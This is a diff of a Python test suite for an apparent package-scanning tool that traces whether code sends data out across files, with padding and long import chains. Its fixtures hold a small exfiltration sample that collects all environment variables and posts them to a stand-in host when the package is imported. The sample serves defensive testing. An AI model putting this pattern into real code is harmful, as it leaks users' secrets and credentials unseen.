@@ -9,8 +9,8 @@ import pytest
 from mlsupply.evidence import look
 from mlsupply.evidence.linking import ROUNDS
 from mlsupply.evidence.package import PackageFacts
-from mlsupply.evidence.pool import Pool
 from mlsupply.model import Reason
+from tests.looking import looked
 
 READS = "import os\ndef gather():\n    return dict(os.environ)\n"
 SENDS = "import requests\ndef push(data):\n    requests.post('https://in.example/p', json=data)\n"
@@ -18,28 +18,19 @@ STARTS = "from .read import gather\nfrom .send import push\npush(gather())\n"
 PADDING = "# a page of remarks\n" * 8_000
 
 
-def seen(root: Path, files: dict[str, str]) -> PackageFacts:
-    for name, text in files.items():
-        path = root / "demo" / f"{name}.py"
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-    with Pool(1) as pool:
-        return look.looked_at(root, pool, "demo 1.0", "", None)
-
-
 def sends(facts: PackageFacts) -> list[str]:
     return [fact.source for fact in facts.code if fact.behaviour == "sends"]
 
 
 def test_padding_takes_no_file_out_of_what_its_neighbours_know(tmp_path: Path) -> None:
-    facts = seen(tmp_path, {"__init__": PADDING + STARTS, "read": PADDING + READS, "send": SENDS})
+    facts = looked(tmp_path, {"__init__": PADDING + STARTS, "read": PADDING + READS, "send": SENDS})
     assert sends(facts) == ["environment"]
     assert facts.gaps == ()
 
 
 def test_more_code_than_is_kept_side_by_side_is_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(look, "_SPARES", 1000)
-    facts = seen(tmp_path, {"__init__": PADDING + STARTS, "read": READS, "send": SENDS})
+    facts = looked(tmp_path, {"__init__": PADDING + STARTS, "read": READS, "send": SENDS})
     (gap,) = facts.gaps
     assert gap.reason is Reason.LIMIT
     assert "looked at without its neighbours: 1 file" in gap.detail
@@ -53,6 +44,6 @@ def test_a_chain_that_is_longer_than_is_followed_is_a_gap(tmp_path: Path) -> Non
     for n in range(1, last + 1):
         files[f"r{n}"] = f"from .r{n - 1} import go{n - 1}\ndef go{n}(data):\n    go{n - 1}(data)\n"
     files["__init__"] = f"from .read import gather\nfrom .r{last} import go{last}\ngo{last}(gather())\n"
-    (gap,) = seen(tmp_path, files).gaps
+    (gap,) = looked(tmp_path, files).gaps
     assert gap.reason is Reason.LIMIT
     assert "owed a further look" in gap.detail
